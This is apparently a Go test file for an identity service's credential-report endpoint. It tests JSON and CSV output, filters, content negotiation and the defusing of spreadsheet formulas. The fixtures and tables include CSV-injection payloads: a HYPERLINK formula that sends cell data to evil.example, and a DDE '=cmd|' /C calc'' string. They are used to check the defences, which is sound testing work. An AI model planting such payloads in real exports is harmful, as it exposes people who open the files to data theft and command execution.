package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"flag"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/portcullis-id/portcullis/mfa"
	"github.com/portcullis-id/portcullis/store"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

// reportFixture fills a store with users whose credentials were set at different
// times: alice (admin, TOTP and a passkey, 3 recovery codes), bob (inactive, nothing),
// carol (recovery codes only), and three users whose names are spreadsheet formulas,
// as SCIM or an upstream identity provider could send them.
func reportFixture(t *testing.T, e *env, clk *testClock, svc *fakeMFA) {
	t.Helper()
	ctx := context.Background()
	day := 24 * time.Hour
	alice := e.mkUser("u-alice", "alice", "admin")
	bob := e.mkUser("u-bob", "bob")
	carol := e.mkUser("u-carol", "Carol", "auditor", "ops")
	evil := e.mkUser("u-evil", `=HYPERLINK("http://evil.example/?"&A1,"help")`, "+ops")
	e.mkUser("u-at", "@SUM(1+1)")
	e.mkUser("u-dash", "-2+3")

	clk.Set(testNow.Add(-100*day - time.Hour))
	e.putCred(alice.ID, store.CredentialPassword, "password", "$argon2id$alice")
	for _, id := range []string{"r1", "r2", "r3"} {
		e.putCred(alice.ID, store.CredentialRecovery, id, "hash-"+id)
	}
	clk.Set(testNow.Add(-10 * day))
	e.putCred(carol.ID, store.CredentialPassword, "password", "$argon2id$carol")
	e.putCred(carol.ID, store.CredentialRecovery, "r1", "hash-r1")
	e.putCred(carol.ID, store.CredentialRecovery, "r2", "hash-r2")
	clk.Set(testNow.Add(-time.Hour)) // less than a day: age 0
	e.putCred(evil.ID, store.CredentialPassword, "password", "$argon2id$evil")
	clk.Set(testNow)

	alice.LastLoginAt = time.Date(2026, 11, 22, 8, 30, 0, 0, time.FixedZone("CET", 3600))
	if _, err := e.st.UpdateUser(ctx, alice); err != nil {
		t.Fatal(err)
	}
	bob.Active = false
	if _, err := e.st.UpdateUser(ctx, bob); err != nil {
		t.Fatal(err)
	}
	svc.set(alice.ID,
		mfa.Factor{ID: "wa-1", Type: mfa.TypeWebAuthn, Passkey: true, CreatedAt: testNow.Add(-50 * day)},
		mfa.Factor{ID: "totp-1", Type: mfa.TypeTOTP, CreatedAt: testNow.Add(-90 * day)},
		mfa.Factor{ID: mfa.TypeRecovery, Type: mfa.TypeRecovery, CreatedAt: testNow.Add(-90 * day)},
	)
	svc.set(carol.ID, mfa.Factor{ID: mfa.TypeRecovery, Type: mfa.TypeRecovery, CreatedAt: testNow.Add(-9 * day)})
}

func reportNames(r CredentialReport) []string {
	var out []string
	for _, row := range r.Items {
		out = append(out, row.UserName)
	}
	return out
}

func TestCredentialReportJSON(t *testing.T) {
	t.Parallel()
	svc := &fakeMFA{}
	e, clk := newMFAEnv(t, svc)
	reportFixture(t, e, clk, svc)

	r := e.do("GET", "/reports/credentials", e.admin, nil)
	expect(t, r, http.StatusOK)
	if ct := r.header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("Content-Type = %q", ct)
	}
	var rep CredentialReport
	r.decode(t, &rep)
	if !rep.GeneratedAt.Equal(testNow) {
		t.Errorf("generated_at = %s", rep.GeneratedAt)
	}
	wantOrder := []string{"-2+3", `=HYPERLINK("http://evil.example/?"&A1,"help")`, "@SUM(1+1)", "alice", "bob", "Carol"}
	if got := reportNames(rep); !slices.Equal(got, wantOrder) {
		t.Fatalf("order = %q, want %q", got, wantOrder)
	}
	alice, bob, carol := rep.Items[3], rep.Items[4], rep.Items[5]
	if alice.ID != "u-alice" || !alice.Active || !slices.Equal(alice.Roles, []string{"admin"}) || !alice.PasswordSet ||
		alice.PasswordAgeDays == nil || *alice.PasswordAgeDays != 100 || !alice.MFAEnrolled ||
		!slices.Equal(alice.Factors, []string{"totp", "webauthn"}) || alice.RecoveryCodesLeft != 3 ||
		alice.LastLoginAt == nil || alice.LastLoginAt.Format(time.RFC3339) != "2026-11-22T07:30:00Z" {
		t.Errorf("alice = %+v", alice)
	}
	if bob.Active || bob.PasswordSet || bob.PasswordAgeDays != nil || bob.MFAEnrolled || bob.RecoveryCodesLeft != 0 || bob.LastLoginAt != nil {
		t.Errorf("bob = %+v", bob)
	}
	if *carol.PasswordAgeDays != 10 || carol.MFAEnrolled || len(carol.Factors) != 0 || carol.RecoveryCodesLeft != 2 {
		t.Errorf("carol = %+v", carol)
	}
	// Empty lists and absent values keep their keys, so consumers see one shape.
	body := string(r.body)
	for _, want := range []string{`"roles":[]`, `"factors":[]`, `"password_age_days":null`, `"last_login_at":null`} {
		if !strings.Contains(body, want) {
			t.Errorf("body lacks %s", want)
		}
	}
	for _, secret := range []string{"argon2id", "hash-r1"} {
		if strings.Contains(body, secret) {
			t.Errorf("report contains %q", secret)
		}
	}
	ev := e.rec.find("admin.report.credentials", "success")
	if ev == nil || ev.Actor != "token:ops/"+e.tokID || ev.Details["format"] != "json" || ev.Details["rows"] != "6" {
		t.Fatalf("report read not audited: %+v", ev)
	}
}

func TestCredentialReportFilters(t *testing.T) {
	t.Parallel()
	svc := &fakeMFA{}
	e, clk := newMFAEnv(t, svc)
	reportFixture(t, e, clk, svc)
	tests := []struct {
		query string
		want  []string
	}{
		{"?mfa=none", []string{"-2+3", `=HYPERLINK("http://evil.example/?"&A1,"help")`, "@SUM(1+1)", "bob", "Carol"}},
		{"?mfa=enrolled", []string{"alice"}},
		{"?mfa=", []string{"-2+3", `=HYPERLINK("http://evil.example/?"&A1,"help")`, "@SUM(1+1)", "alice", "bob", "Carol"}},
	}
	for _, tc := range tests {
		var rep CredentialReport
		r := e.do("GET", "/reports/credentials"+tc.query, e.admin, nil)
		expect(t, r, http.StatusOK)
		r.decode(t, &rep)
		if got := reportNames(rep); !slices.Equal(got, tc.want) {
			t.Errorf("%s: users = %q, want %q", tc.query, got, tc.want)
		}
	}
	expectField(t, e.do("GET", "/reports/credentials?mfa=some", e.admin, nil), http.StatusBadRequest, "mfa")
	expectField(t, e.do("GET", "/reports/credentials?format=xlsx", e.admin, nil), http.StatusBadRequest, "format")
	expect(t, e.do("GET", "/reports/credentials", "", nil), http.StatusUnauthorized)
}

func TestCredentialReportCSVGolden(t *testing.T) {
	t.Parallel()
	svc := &fakeMFA{}
	e, clk := newMFAEnv(t, svc)
	reportFixture(t, e, clk, svc)

	r := e.do("GET", "/reports/credentials", e.admin, nil, "Accept", "text/csv")
	expect(t, r, http.StatusOK)
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("Content-Type = %q", ct)
	}
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment") {
		t.Errorf("Content-Disposition = %q", cd)
	}
	if !slices.Contains(r.header.Values("Vary"), "Accept") {
		t.Errorf("Vary = %q, want Accept", r.header.Values("Vary"))
	}
	golden := filepath.Join("testdata", "credential-report.csv")
	if *update {
		if err := os.WriteFile(golden, r.body, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -run TestCredentialReportCSVGolden -update to create it)", err)
	}
	if !bytes.Equal(r.body, want) {
		t.Errorf("CSV differs from %s (rerun with -update if the change is intended):\n%s", golden, r.body)
	}
	if again := e.do("GET", "/reports/credentials?format=csv", e.admin, nil, "Accept", "application/json"); !bytes.Equal(again.body, r.body) {
		t.Errorf("?format=csv gave a different body:\n%s", again.body)
	}

	// Read back as a spreadsheet would: no cell may start a formula.
	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(recs[0], credentialReportHeader) || len(recs) != 7 {
		t.Fatalf("header %q, %d records", recs[0], len(recs))
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
	wantCells := map[string]bool{`'-2+3`: true, `'=HYPERLINK("http://evil.example/?"&A1,"help")`: true, `'@SUM(1+1)`: true, `'+ops`: true}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			delete(wantCells, cell)
		}
	}
	if len(wantCells) > 0 {
		t.Errorf("cells not defused with a leading quote: %v", wantCells)
	}
	if ev := e.rec.find("admin.report.credentials", "success"); ev == nil || ev.Details["format"] != "csv" {
		t.Fatalf("CSV report read not audited: %+v", ev)
	}
}

func TestCredentialReportUsesRecoveryCounterWhenOffered(t *testing.T) {
	t.Parallel()
	svc := &fakeMFA{}
	e, _ := newMFAEnv(t, countingMFA{fakeMFA: svc, left: 7})
	u := e.mkUser("u-gina", "gina")
	e.putCred(u.ID, store.CredentialRecovery, "r1", "hash")
	svc.set(u.ID, mfa.Factor{ID: "totp-1", Type: mfa.TypeTOTP, CreatedAt: testNow})
	var rep CredentialReport
	e.do("GET", "/reports/credentials", e.admin, nil).decode(t, &rep)
	if len(rep.Items) != 1 || rep.Items[0].RecoveryCodesLeft != 7 || !rep.Items[0].MFAEnrolled {
		t.Fatalf("report = %+v, want 7 codes left from the service", rep.Items)
	}
}

func TestCredentialReportWithoutServiceReadsStoredCredentials(t *testing.T) {
	t.Parallel()
	e, _ := newMFAEnv(t, nil)
	u := e.mkUser("u-hal", "hal")
	e.putCred(u.ID, store.CredentialWebAuthn, "cred-1", "pubkey")
	e.putCred(u.ID, store.CredentialRecovery, "r1", "hash")
	var rep CredentialReport
	e.do("GET", "/reports/credentials?mfa=enrolled", e.admin, nil).decode(t, &rep)
	if len(rep.Items) != 1 || !slices.Equal(rep.Items[0].Factors, []string{"webauthn"}) || rep.Items[0].RecoveryCodesLeft != 1 {
		t.Fatalf("report = %+v", rep.Items)
	}
}

func TestWantsCSVNegotiation(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, format string
		accept       []string
		csv          bool
		err          bool
	}{
		{"no header", "", nil, false, false},
		{"csv", "", []string{"text/csv"}, true, false},
		{"csv with charset", "", []string{"text/csv; charset=utf-8"}, true, false},
		{"json", "", []string{"application/json"}, false, false},
		{"anything", "", []string{"*/*"}, false, false},
		{"text wildcard", "", []string{"text/*"}, true, false},
		{"both equal prefers json", "", []string{"text/csv, application/json"}, false, false},
		{"csv weighted higher", "", []string{"application/json;q=0.5, text/csv"}, true, false},
		{"csv weighted lower", "", []string{"text/csv;q=0.4, application/json;q=0.9"}, false, false},
		{"specific range wins over wildcard", "", []string{"*/*;q=1, text/csv;q=0.1, application/json;q=0.2"}, false, false},
		{"csv refused explicitly", "", []string{"text/csv;q=0, */*"}, false, false},
		{"several header lines", "", []string{"application/json;q=0.1", "text/csv"}, true, false},
		{"unsupported falls back to json", "", []string{"text/html"}, false, false},
		{"bad q ignored", "", []string{"text/csv;q=2"}, false, false},
		{"NaN q ignored", "", []string{"text/csv;q=NaN"}, false, false},
		{"exponent q ignored", "", []string{"text/csv;q=1e-1, application/json;q=0.05"}, false, false},
		{"three decimals", "", []string{"text/csv;q=0.125, application/json;q=0.12"}, true, false},
		{"q with trailing dot", "", []string{"text/csv;q=1., application/json;q=0.9"}, true, false},
		{"garbage ignored", "", []string{";;;, text/csv"}, true, false},
		{"format csv wins", "csv", []string{"application/json"}, true, false},
		{"format json wins", "json", []string{"text/csv"}, false, false},
		{"unknown format", "xml", nil, false, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := wantsCSV(tc.format, tc.accept)
			if (err != nil) != tc.err || got != tc.csv {
				t.Fatalf("wantsCSV(%q, %q) = %v, %v; want %v, error %v", tc.format, tc.accept, got, err, tc.csv, tc.err)
			}
		})
	}
}

func TestDefuseFormula(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"":                "",
		"alice":           "alice",
		"=1+1":            "'=1+1",
		"+1":              "'+1",
		"-1":              "'-1",
		"@SUM(A1)":        "'@SUM(A1)",
		"\t=1":            "'\t=1",
		"\r=1":            "'\r=1",
		"a=1":             "a=1",
		"'already":        "'already",
		"2026-11-23T12Z":  "2026-11-23T12Z",
		"totp,webauthn":   "totp,webauthn",
		"=cmd|' /C calc'": "'=cmd|' /C calc'",
	}
	for in, want := range tests {
		if got := defuseFormula(in); got != want {
			t.Errorf("defuseFormula(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzAcceptQuality(f *testing.F) {
	for _, s := range []string{"text/csv", "text/csv;q=0.5, application/json", "*/*;q=0", ";;;", "text/*;q=abc"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, accept string) {
		for _, mt := range [][2]string{{"text", "csv"}, {"application", "json"}} {
			if q := acceptQuality([]string{accept}, mt[0], mt[1]); !(q >= 0 && q <= 1) {
				t.Fatalf("acceptQuality(%q) = %v, outside [0, 1]", accept, q)
			}
		}
	})
}

func TestParseQValue(t *testing.T) {
	t.Parallel()
	tests := map[string]float64{"0": 0, "1": 1, "0.5": 0.5, "0.125": 0.125, "1.000": 1, "0.": 0, "1.": 1}
	for in, want := range tests {
		if got, ok := parseQValue(in); !ok || got != want {
			t.Errorf("parseQValue(%q) = %v, %v; want %v", in, got, ok, want)
		}
	}
	for _, in := range []string{"", "2", "1.5", "1.001", "0.1234", "-0", "+1", "NaN", "Inf", "1e0", ".5", "0x1", "0.5 "} {
		if got, ok := parseQValue(in); ok {
			t.Errorf("parseQValue(%q) = %v, want refused", in, got)
		}
	}
}
